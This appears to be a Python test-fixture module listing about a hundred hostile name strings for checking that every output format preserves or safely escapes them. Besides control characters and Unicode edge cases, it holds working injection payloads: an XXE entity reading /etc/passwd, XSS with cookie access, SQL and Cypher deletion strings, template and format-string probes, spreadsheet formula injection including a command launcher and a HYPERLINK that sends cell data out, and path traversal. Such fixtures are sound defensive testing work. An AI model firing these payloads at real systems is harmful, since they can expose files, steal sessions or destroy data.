"""A hundred names as an attacker, a broken page or the world's scripts would write them, for tests of every output.

None is stripped of its blanks or folded here: an output either gives each back as it is or documents what it cannot
carry. Lone surrogates are missing, since no reader lets them into an article.
"""

_CONTROLS = (
    "nul\x00byte",
    "bell\x07 and backspace\x08",
    "tab\tbetween",
    "line\nbreak",
    "carriage\rreturn",
    "both\r\nbreaks",
    "\nleading break",
    "trailing break\n",
    "vertical\x0btab and form\x0cfeed",
    "unit\x1fseparator, record\x1eseparator, group\x1dseparator, file\x1cseparator",
    "escape\x1b[31mred\x1b[0m",
    "delete\x7f",
    "next\x85line",
    "C1 \x80\x9b31m\x9c",
    "line\u2028separator and paragraph\u2029separator",
)

_XML_AND_UNICODE = (
    "noncharacter \ufffe",
    "noncharacter \uffff",
    "plane noncharacter \U0001ffff",
    "last \U0010ffff",
    "replacement \ufffd itself",
    "\ufeffbyte order mark first",
    "byte order mark \ufeff inside",
    "private \ue000 use",
    "tag \U000e0041\U000e007f characters",
    "]]> ends a section",
    "<![CDATA[ x ]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "&amp; &lt; &#0; &#x1F98A; &nbsp; &unknown;",
    "<!-- -- comment -->",
    "<?xml version='1.0'?>",
)

_SCRIPTS = (
    "\u202eright-to-left override\u202c",
    "\u2066isolate\u2069 \u200fmark\u200e",
    "مريم الزهراني",
    "מרים כהן",
    "علي \u200fSmith\u200e 123",
    "李小龍",
    "Ольга Ковальчук",
    "Nguyễn Thị Ánh",
    "Zoe\u0308 (combining) and Zo\u00eb (composed)",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324a\u0323\u0330\u0317lgo",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word",
    "soft\u00adhyphen",
    "no\u00a0break\u202fspaces\u3000wide",
    "🦊",
    "👩‍👩‍👧‍👦 family and 🏳️‍🌈 flag",
    "🇳🇴🇦🇿",
    "𝔉𝔯𝔞𝔨𝔱𝔲𝔯 𐍈 𓀀",
    "İstanbul ı ß ẞ ŉ",
    "\u0301 begins with a combining mark",
    "ﷺ ﬁ ½ Ⅷ",
)

_QUOTES_AND_CODE = (
    "'",
    '"',
    "''' \"\"\"",
    'O\'Brien "Bo" `Tick`',
    "back\\slash \\n \\u0022 \\",
    "\\",
    '\\"',
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert('x')>",
    "</title></textarea></script><svg onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %n %(x)s {0} {x!r}",
    "x'; DROP TABLE entities; --",
    "x' OR '1'='1",
    "}) DETACH DELETE n //",
    "Bo'}) MATCH (n) DETACH DELETE n /*",
    "`) SET n.admin = true //",
    "$name $id {id: 1} */ RETURN 1",
    '> } ; DROP ALL ; INSERT DATA { <a> <b> "c" }',
    '" . <http://x.example/a> <http://x.example/b> <http://x.example/c> .',
    '"@en ^^<http://www.w3.org/2001/XMLSchema#integer>',
    "http://x.example/a b<c>?d={e}|f^g`h",
    "_:blank prefix:local @prefix x: <x> .",
    "# comment",
)

_TABLES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+1 555 0100",
    "-1",
    "@SUM(A1:A9)",
    "'=quoted already",
    "\t=tab first",
    "\r=return first",
    "a,b;c|d",
    ',",",',
    '"unclosed, quote',
    "007",
    "1e5",
    "true",
    "NULL",
    "nan",
)

_JSON_AND_FILES = (
    " ",
    "  two leading and trailing  ",
    '{"id": "x", "name": ["y"]}',
    "[1, 2",
    "../../../../etc/passwd",
    "C:\\Windows\\CON.txt:stream",
    "very long: " + "Ærø <&>\"' " * 5000,
)

HOSTILE = (*_CONTROLS, *_XML_AND_UNICODE, *_SCRIPTS, *_QUOTES_AND_CODE, *_TABLES, *_JSON_AND_FILES)
